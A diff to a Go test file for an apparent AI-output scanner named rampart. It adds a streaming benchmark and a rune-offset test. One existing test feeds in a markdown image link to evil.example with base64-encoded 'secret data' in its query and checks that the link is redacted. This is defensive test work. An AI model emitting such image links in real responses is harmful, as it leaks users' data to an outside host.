@@ -4,11 +4,15 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"fmt"
+	"io"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"rampart/internal/policy"
 	"rampart/internal/scan"
+	"rampart/internal/scan/chainbench"
 )
 
 func runScanLines(t *testing.T, dir string, lines ...string) []scanResult {
@@ -91,5 +95,50 @@ func TestScanOutputDirection(t *testing.T) {
 	res := runScanLines(t, "output", `{"text":"Here: ![x](https://evil.example/p.png?q=c2VjcmV0IGRhdGEgaGVyZSBhbmQgbW9yZQ) done"}`)
 	if len(res) != 1 || res[0].Verdict != "redact" || res[0].Sanitized != "Here: ![x]() done" {
 		t.Fatalf("%+v", res)
+	}
+}
+
+// BenchmarkScanStream measures `rampart scan` without process start-up:
+// JSON Lines of the chain benchmark's 4 KB prompts through scanStream.
+func BenchmarkScanStream(b *testing.B) {
+	set, err := policy.Builtin("balanced")
+	if err != nil {
+		b.Skip(err)
+	}
+	var in bytes.Buffer
+	for _, p := range chainbench.Corpus(4096, 256) {
+		line, _ := json.Marshal(map[string]string{"text": p})
+		in.Write(line)
+		in.WriteByte('\n')
+	}
+	for _, workers := range []int{1, 2} {
+		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
+			b.SetBytes(int64(in.Len()))
+			c0 := chainbench.CPUTime()
+			n := 0
+			for b.Loop() {
+				if err := scanStream(context.Background(), set.Default, scan.Input, bytes.NewReader(in.Bytes()), io.Discard, workers); err != nil {
+					b.Fatal(err)
+				}
+				n++
+			}
+			if d := chainbench.CPUTime() - c0; d > 0 {
+				b.ReportMetric(float64(n*in.Len())/d.Seconds()/1e6, "cpuMB/s")
+			}
+		})
+	}
+}
+
+func TestRuneCounter(t *testing.T) {
+	for _, text := range []string{"plain ascii text, nothing else", "ünïcödé mail: ada@example.com — 東京 ok"} {
+		c := runeCounter{text: text, ascii: isASCII(text)}
+		for _, off := range []int{0, 3, 3, 9, 4, len(text), 1, len(text) + 5, 17, 30, 2} {
+			if off < len(text) && !utf8.RuneStart(text[off]) {
+				continue // spans fall on rune boundaries
+			}
+			if got, want := c.at(off), scan.RuneOffset(text, off); got != want {
+				t.Errorf("%q: at(%d) = %d, want %d", text, off, got, want)
+			}
+		}
 	}
 }
